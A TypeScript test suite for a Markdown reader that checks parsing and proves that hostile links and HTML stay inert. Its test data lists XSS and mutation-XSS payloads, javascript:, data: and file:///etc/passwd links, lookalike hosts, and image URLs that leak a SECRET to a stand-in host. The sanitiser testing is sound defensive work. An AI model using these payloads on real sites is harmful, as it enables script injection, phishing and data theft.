import { describe, expect, it } from 'vitest'
import type { Block, Inline } from './plan.ts'
import { readMarkdown } from './reader.ts'

const blocksOf = (text: string): Block[] => readMarkdown(text).map(({ block }) => block)

/** Every node of a plan, at any depth. */
function nodesOf(value: unknown): (Block | Inline)[] {
  if (Array.isArray(value)) return value.flatMap(nodesOf)
  if (typeof value !== 'object' || value === null) return []
  const inner = Object.values(value).flatMap(nodesOf)
  return 'kind' in value ? [value as Block | Inline, ...inner] : inner
}

const followed = (text: string): string[] =>
  nodesOf(blocksOf(text)).flatMap((node) => {
    if (node.kind === 'link') return [node.href]
    return node.kind === 'image' && node.link ? [node.link.href] : []
  })

describe('Markdown becomes', () => {
  it.each<[string, string, unknown]>([
    [
      'emphasis and code',
      'a **b** _c_ ~~d~~ `e<f>`',
      [
        {
          kind: 'paragraph',
          children: [
            { text: 'a ' },
            { kind: 'strong' },
            { text: ' ' },
            { kind: 'emphasis' },
            { text: ' ' },
            { kind: 'struck' },
            { text: ' ' },
            { kind: 'code', text: 'e<f>' },
          ],
        },
      ],
    ],
    ['headings', '### x', [{ kind: 'heading', level: 3 }]],
    ['code with its language', '```ts title="a"\nlet a\n```', [{ kind: 'code', language: 'ts', text: 'let a' }]],
    ['numbered lists', '3. a\n4. b', [{ kind: 'list', start: 3, items: [{ blocks: [{ kind: 'tight' }] }, {}] }]],
    ['tasks', '- [x] a\n- [ ] b', [{ kind: 'list', items: [{ checked: true }, { checked: false }] }]],
    ['tables', '|a|b|\n|:-|-:|\n|1|2|', [{ kind: 'table', align: ['left', 'right'], head: [{}, {}], rows: [[{}, {}]] }]],
    ['line breaks', 'a<br>b', [{ children: [{ text: 'a' }, { kind: 'break' }, { text: 'b' }] }]],
    [
      'characters by reference',
      '&lt;b&gt; &amp; &#x2713; &unknown; &#0;',
      [{ children: [{ text: '<b> & ✓ &unknown; \ufffd' }] }],
    ],
  ])('%s', (_, text, expected) => expect(blocksOf(text)).toMatchObject(expected as object))
})

describe('a link', () => {
  it.each([
    ['[docs](https://docs.example/a?b=1#c)', 'https://docs.example/a?b=1#c', 'docs.example', false],
    ['https://docs.example/a', 'https://docs.example/a', 'docs.example', true],
    ['<http://127.0.0.1:5173/x>', 'http://127.0.0.1:5173/x', '127.0.0.1:5173', true],
    ['[https://bank.example](https://evil.test/)', 'https://evil.test/', 'evil.test', false],
    ['[bank.example](https://bank.example.evil.test/)', 'https://bank.example.evil.test/', 'bank.example.evil.test', false],
    ['[x](https://b\u0430nk.example/)', 'https://xn--bnk-6cd.example/', 'xn--bnk-6cd.example', false],
  ])('%s leads to %s and shows its host', (text, href, host, plain) => {
    expect(nodesOf(blocksOf(text)).find((node) => node.kind === 'link')).toMatchObject({ href, host, plain })
  })

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](&#x6a;avascript:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](data:text/html,<b>)',
    '[x](data:text/html;base64,PHN2Zz4=)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](vscode://file/etc/passwd)',
    '[x](blob:http://a.test/1)',
    '[x](mailto:a@b.test)',
    '[x](//evil.test/a)',
    '[x](../README.md)',
    '[x](https://user:word@evil.test/)',
    '[x](https://bank.example@evil.test/)',
    '[x](https://)',
    `[x](https://evil.test/?d=${'a'.repeat(3000)})`,
    '[x][r]\n\n[r]: javascript:alert(1)',
    '<javascript:alert(1)>',
    'someone@evil.test',
  ])('%s cannot be followed', (text) => expect(followed(text)).toEqual([]))
})

describe('hostile words', () => {
  it.each([
    '![x](http://c.test/?d=SECRET)',
    '![x][i]\n\n[i]: http://c.test/?d=SECRET',
    '[![x](http://c.test/a.png)](http://c.test/b)',
  ])('the image of %s is not loaded: it is a link that shows its host', (text) => {
    const image = nodesOf(blocksOf(text)).find((node) => node.kind === 'image')
    expect(image).toMatchObject({ words: 'x', link: { host: 'c.test' } })
  })

  it.each([
    '<img src=x onerror=alert(1)>',
    '<img srcset="http://c.test/a 1x">',
    '<picture><source srcset="http://c.test/a"></picture>',
    '<video poster="http://c.test/a"></video>',
    '<link rel=dns-prefetch href="//c.test">',
    '<style>body{background:url(http://c.test)}</style>',
    '<div style="background:url(http://c.test)">x</div>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<form id=config><input name=cookie></form><a id=__webpack_nonce__>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<scr<script>ipt>alert(1)</script>',
    'before <b onclick=alert(1)>bold</b> after',
    '<base href="http://c.test/">',
    '<meta http-equiv=refresh content="0;url=http://c.test">',
  ])('%s stays text', (text) => {
    const nodes = nodesOf(blocksOf(text))
    expect(followed(text)).toEqual([])
    expect(nodes.some((node) => node.kind === 'markup')).toBe(true)
    expect(nodes.map((node) => ('text' in node ? node.text : '')).join('')).toContain('<')
  })

  it('have no shape with room for an attribute', () => {
    const known = new Set([
      'kind',
      'text',
      'children',
      'href',
      'host',
      'plain',
      'target',
      'words',
      'link',
      'level',
      'language',
      'blocks',
      'start',
      'items',
      'align',
      'head',
      'rows',
      'checked',
    ])
    const text =
      'a **b** [c](https://d.test) ![e](https://f.test) <i x=1>\n\n# g\n\n- [ ] h\n\n> i\n\n|j|\n|-|\n|k|\n\n```l\nm\n```\n'
    const keys = nodesOf(blocksOf(text)).flatMap((node) => Object.keys(node))
    expect(keys.filter((key) => !known.has(key))).toEqual([])
  })
})
